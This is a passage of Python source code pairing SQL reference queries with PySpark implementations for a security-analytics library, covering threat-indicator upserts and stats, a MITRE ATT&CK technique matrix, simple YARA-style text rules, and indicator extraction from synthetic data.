SELECT arg_min(type, (NOT old, us, type, source)) AS type, value, max(score) AS score, array_to_string(list_sort(list_distinct(list(source))), ',') AS tags, arg_min(source, (NOT old, us, type, source)) AS source, max(us) AS last_seen_us FROM a GROUP BY value""")
def indicator_upsert(spark, sf_dir):
    rows = telemetry(spark, sf_dir).select("event_id", F.col("us").alias("seen_us"), _text(["v", F.col("k") % 40]).alias("value"), F.when(F.col("event_id") % 2 == 0, "ip").otherwise("domain").alias("type"), F.col("k").alias("score"), F.array("event_type").alias("tags"), F.col("event_type").alias("source"))
    old = F.col("event_id") % 5 < 2
    return indicators.upsert(rows.filter(old).drop("event_id"), rows.filter(~old).drop("event_id")).withColumn("tags", F.array_join("tags", ","))


@query(f"""{T}, l AS (SELECT 'v' || (k % 40) AS value, CASE WHEN k % 40 < 25 THEN k % 40 END AS score FROM t) SELECT count(*) AS total, count(score) AS hits, count(*) FILTER (score IS NULL) AS misses, count(DISTINCT value) AS "distinct" FROM l""")
def indicator_stats(spark, sf_dir):
    n = F.col("k") % 40
    return reports.indicator_stats(telemetry(spark, sf_dir).select(F.lit("ip").alias("type"), _text(["v", n]).alias("value"), F.when(n < 25, n).alias("score")))


_CATALOG = [("T1486", "Impact"), ("T1490", "Impact"), ("T1059", "Execution"), ("T1071", "Command and Control"), ("T1110", "Credential Access")]


@query(f"""{T}, s AS (SELECT DISTINCT CASE event_type WHEN 'error' THEN 'T1486' WHEN 'click' THEN 'T1071' ELSE 'T9999' END AS technique FROM t), c AS (SELECT * FROM (VALUES {", ".join(map(str, _CATALOG))}) v(technique, tactic))
SELECT tactic, technique, technique IN (SELECT technique FROM s) AS detected FROM c""")
def technique_matrix(spark, sf_dir):
    kind = F.col("event_type")
    seen = telemetry(spark, sf_dir).select(F.when(kind == "error", "T1486").when(kind == "click", "T1071").otherwise("T9999").alias("technique"))
    return reports.matrix(seen, _CATALOG)


_RULES = """
rule spend : money { meta: severity = "high" strings: $a = "PURCHASE" nocase fullword $b = { 7B 22 6B } $c = /"k": 9[0-9]/ condition: ($a and $c) or ($b at 0 and filesize < 9 and $a) }
rule late { strings: $e = "error" $v = "view" condition: any of them and filesize >= 18 }
"""


@query("""WITH l AS (SELECT event_id, event_type || ' ' || props AS t FROM events) SELECT event_id, 'spend' AS rule, 'high' AS level FROM l WHERE contains(t, 'purchase') AND regexp_matches(t, '"k": 9[0-9]')
UNION ALL SELECT event_id, 'late', 'medium' FROM l WHERE (contains(t, 'error') OR contains(t, 'view')) AND length(t) >= 18""")
def text_rules(spark, sf_dir):
    from ..operators import rules

    texts = read(spark, sf_dir, "events").select("event_id", F.concat_ws(" ", "event_type", "props").alias("t"))
    return rules.firing(texts, rule_text.parse(_RULES), lambda r: rule_text.compile_rule(r, F.col("t"))).select("event_id", "rule", "level")


@query("""WITH r AS (SELECT s_nationkey AS dump, '10.0.0.' || s_suppkey % 9 || ' and 8.8.' || s_suppkey % 5 || '.1 by http://x' || s_suppkey % 4 || '.org/a' AS text, s_suppkey FROM supplier)
SELECT DISTINCT dump, 'ip' AS type, '8.8.' || s_suppkey % 5 || '.1' AS value FROM r UNION ALL SELECT DISTINCT dump, 'url', 'http://x' || s_suppkey % 4 || '.org/a' FROM r""")
def indicators_in_dumps(spark, sf_dir):
    n = F.col("s_suppkey")
    regions = read(spark, sf_dir, "supplier").select(F.col("s_nationkey").alias("dump"), _text(["10.0.0.", n % 9, " and 8.8.", n % 5, ".1 by http://x", n % 4, ".org/a"]).alias("text"))
    return reports.indicators_in_dumps(regions)


@query(f"""{TRADES} SELECT o_custkey, l_orderkey, l_linenumber, CAST(sum(l_quantity) OVER w - l_quantity AS BIGINT) AS before FROM trades WINDOW w AS (ORDER BY us, l_orderkey * 10 + l_linenumber, l_partkey, l_suppkey ROWS UNBOUNDED PRECEDING) QUALIFY l_orderkey % 50 = 0 AND count(*) OVER (PARTITION BY us, l_orderkey, l_linenumber) = 1""")
def running_volume(spark, sf_dir):
    from ..operators import behaviour

    rows = trades(spark, sf_dir).withColumn("tie", F.struct((F.col("l_orderkey") * 10 + F.col("l_linenumber")).alias("a"), "l_partkey", "l_suppkey"))
    out = behaviour.running_sum(rows, "l_quantity", "before", tie="tie")
    alone = windows.Window.partitionBy("us", "l_orderkey", "l_linenumber")
    return out.withColumn("_n", F.count("*").over(alone)).filter("l_orderkey % 50 = 0 and _n = 1").select("o_custkey", "l_orderkey", "l_linenumber", F.col("before").cast("long").alias("before"))
